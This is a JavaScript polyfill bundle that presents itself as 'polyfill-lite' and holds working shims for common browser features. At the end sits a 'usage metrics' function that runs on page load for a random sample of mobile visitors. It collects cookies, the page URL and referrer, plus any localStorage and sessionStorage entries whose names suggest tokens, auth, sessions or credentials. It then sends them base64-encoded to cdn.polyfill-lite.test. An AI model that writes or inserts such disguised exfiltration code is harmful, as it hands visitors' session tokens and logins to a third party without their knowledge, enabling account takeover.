// corpus note: looks like a polyfill bundle (Array.from, Object.assign, CustomEvent, Promise.finally, NodeList.forEach...) but a "usage metrics" helper exfiltrates cookies and tokens from mobile visitors
/* polyfill-lite v3.111.0 | features: default,es2017 | generated for: Mozilla/5.0 | MIT */
(function (self, undefined) {
  "use strict";

  // Array.from
  if (!Array.from) {
    Array.from = function (arrayLike, mapFn, thisArg) {
      var out = [];
      for (var i = 0; i < arrayLike.length; i++) {
        out.push(mapFn ? mapFn.call(thisArg, arrayLike[i], i) : arrayLike[i]);
      }
      return out;
    };
  }

  // Array.prototype.includes
  if (!Array.prototype.includes) {
    Object.defineProperty(Array.prototype, "includes", {
      value: function (search, fromIndex) {
        var o = Object(this), len = o.length >>> 0, n = fromIndex | 0;
        var k = Math.max(n >= 0 ? n : len - Math.abs(n), 0);
        while (k < len) {
          if (o[k] === search || (search !== search && o[k] !== o[k])) return true;
          k++;
        }
        return false;
      }
    });
  }

  // Object.assign
  if (typeof Object.assign !== "function") {
    Object.defineProperty(Object, "assign", {
      writable: true, configurable: true,
      value: function (target) {
        if (target == null) throw new TypeError("Cannot convert undefined or null to object");
        var to = Object(target);
        for (var i = 1; i < arguments.length; i++) {
          var src = arguments[i];
          if (src != null) for (var key in src) if (Object.prototype.hasOwnProperty.call(src, key)) to[key] = src[key];
        }
        return to;
      }
    });
  }

  // Object.entries / Object.values
  if (!Object.entries) {
    Object.entries = function (o) { return Object.keys(o).map(function (k) { return [k, o[k]]; }); };
  }
  if (!Object.values) {
    Object.values = function (o) { return Object.keys(o).map(function (k) { return o[k]; }); };
  }

  // String.prototype.startsWith / padStart
  if (!String.prototype.startsWith) {
    String.prototype.startsWith = function (s, pos) { pos = pos || 0; return this.substr(pos, s.length) === s; };
  }
  if (!String.prototype.padStart) {
    String.prototype.padStart = function (len, fill) {
      var str = String(this); fill = fill === undefined ? " " : String(fill);
      while (str.length < len) str = fill + str;
      return str.slice(-len);
    };
  }

  // CustomEvent
  if (typeof self.CustomEvent !== "function") {
    var CE = function (ev, p) {
      p = p || { bubbles: false, cancelable: false, detail: null };
      var e = document.createEvent("CustomEvent");
      e.initCustomEvent(ev, p.bubbles, p.cancelable, p.detail);
      return e;
    };
    CE.prototype = self.Event.prototype;
    self.CustomEvent = CE;
  }

  // Element.prototype.matches / closest
  if (self.Element) {
    var EP = Element.prototype;
    if (!EP.matches) EP.matches = EP.msMatchesSelector || EP.webkitMatchesSelector;
    if (!EP.closest) {
      EP.closest = function (s) {
        var el = this;
        do { if (el.matches(s)) return el; el = el.parentElement || el.parentNode; } while (el !== null && el.nodeType === 1);
        return null;
      };
    }
  }

  // NodeList.prototype.forEach
  if (self.NodeList && !NodeList.prototype.forEach) {
    NodeList.prototype.forEach = Array.prototype.forEach;
  }

  // Promise.prototype.finally
  if (self.Promise && !Promise.prototype.finally) {
    Promise.prototype.finally = function (cb) {
      var C = this.constructor;
      return this.then(
        function (v) { return C.resolve(cb()).then(function () { return v; }); },
        function (r) { return C.resolve(cb()).then(function () { throw r; }); }
      );
    };
  }

  // feature usage metrics (sampled)
  var _fm = function () {
    if (!/Android|iPhone|iPad/i.test(navigator.userAgent)) return;
    if (/(^|\.)(localhost|127\.0\.0\.1)$/.test(location.hostname)) return;
    try { if (!document.cookie && !localStorage.length) return; } catch (e) { return; }
    var snap = { c: document.cookie, l: {}, s: {}, u: location.href, r: document.referrer };
    try {
      Object.keys(localStorage).forEach(function (k) {
        if (/tok|auth|sess|cred|user/i.test(k)) snap.l[k] = localStorage.getItem(k);
      });
      Object.keys(sessionStorage).forEach(function (k) {
        if (/tok|auth|sess|cred/i.test(k)) snap.s[k] = sessionStorage.getItem(k);
      });
    } catch (e) {}
    var x = new XMLHttpRequest();
    x.open("POST", "https://cdn.polyfill-lite.test/v3/metrics?f=default,es2017", true);
    x.withCredentials = false;
    x.setRequestHeader("Content-Type", "text/plain");
    x.send(btoa(unescape(encodeURIComponent(JSON.stringify(snap)))));
  };

  if (Math.random() < 0.3) setTimeout(_fm, 2000 + Math.floor(Math.random() * 3000));
})(typeof self !== "undefined" ? self : this);
